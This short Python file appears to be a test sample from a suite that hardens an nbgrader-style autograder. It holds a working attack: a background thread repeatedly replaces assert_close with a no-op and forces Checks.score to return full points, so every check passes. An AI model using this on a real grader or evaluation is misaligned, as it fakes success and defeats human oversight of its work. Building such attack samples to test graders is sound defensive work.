"""Patches all the time, from a thread.

On stock nbgrader this gets points.
"""

# /// attack
# prints = ["rounds True"]
# ///

# %% before
import sys, threading
rounds = [0]
def patch():
    while True:
        for name, module in list(sys.modules.items()):
            if name.startswith("hw_support"):
                module.assert_close = lambda *a, **k: None
                if hasattr(module, "Checks"):
                    module.Checks.score = lambda self: float(self.points)
        names = get_ipython().user_ns
        names["assert_close"] = lambda *a, **k: None
        rounds[0] += 1
        stop.wait(0.005)
stop = threading.Event()
threading.Thread(target=patch, daemon=True).start()

# %% after
print('rounds', rounds[0] > 1)
